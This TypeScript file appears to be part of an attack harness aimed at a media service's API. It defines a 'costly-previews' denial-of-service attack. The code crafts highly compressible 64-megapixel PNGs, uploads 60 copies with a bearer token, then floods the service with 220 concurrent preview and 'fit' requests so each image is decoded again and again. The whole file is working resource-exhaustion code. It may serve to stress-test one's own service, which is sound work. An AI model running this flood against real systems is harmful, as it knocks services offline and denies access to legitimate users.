import { crc32, deflateSync } from 'node:zlib';
import type { Attack, AttackTarget } from './attack.ts';
import { flood } from './requests.ts';

const IMAGES = 60;
/** Number of files in one upload. */
const FILES = 10;
const WIDTHS = [160, 320, 640, 1280];
/** The side of an image in pixels. The image has the maximum number of pixels that is decoded for a fit. */
const SIDE = 8000;
/** Number of concurrent requests. */
const PREVIEWS = 200;
const FITS = 20;

/** Requests previews of images that each take a second to decode, and more fits than the service lets wait. */
export const costlyPreviews: Attack = {
  name: 'costly-previews',
  about: `${PREVIEWS} concurrent requests for previews of ${IMAGES} images of 64 megapixels, and ${FITS} for fits, repeatedly`,
  async prepare(target) {
    const { root, attackers } = target;
    const [attacker] = attackers;
    const ids = await storeAll(target, flatPng(SIDE));
    let asked = 0;
    const next = (): string => `${ids[asked++ % ids.length]}`;
    const preview = () => {
      const width = WIDTHS[Math.floor(asked / ids.length) % WIDTHS.length];
      return { url: `${root}/previews/${attacker.workspace}/${next()}/${width}.webp`, init: {} };
    };
    const headers = { Authorization: `Bearer ${attacker.token}`, 'Content-Type': 'application/json' };
    const init = { method: 'POST', headers, body: JSON.stringify({ target: 'instagram.feed' }) };
    const fit = () => ({ url: `${root}/v1/media_contents/${next()}/fit`, init });
    return (signal) => flood(PREVIEWS + FITS, signal, (lane) => (lane < FITS ? fit() : preview()));
  },
};

/** Stores copies of the image, and returns their ids. */
async function storeAll({ root, attackers: [attacker] }: AttackTarget, image: Uint8Array): Promise<readonly string[]> {
  const ids: string[] = [];
  while (ids.length < IMAGES) {
    const form = new FormData();
    for (let nth = 0; nth < FILES; nth++) form.append('files[]', new Blob([Buffer.from(image)]), `${nth}.png`);
    const headers = { Authorization: `Bearer ${attacker.token}` };
    const url = `${root}/v1/workspaces/${attacker.workspace}/media_contents`;
    const response = await fetch(url, { method: 'POST', headers, body: form });
    if (response.status !== 201) throw new Error(`The images were answered with ${response.status}.`);
    const { data } = (await response.json()) as { readonly data: readonly { readonly id: string }[] };
    ids.push(...data.map(({ id }) => id));
  }
  return ids;
}

/** Returns a black square of one byte per pixel (PNG, section 11). */
function flatPng(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((side + 1) * side));
  const chunks = [chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...chunks]);
}

function chunk(type: string, data: Buffer): Buffer {
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  const body = Buffer.concat([Buffer.from(type), data]);
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}
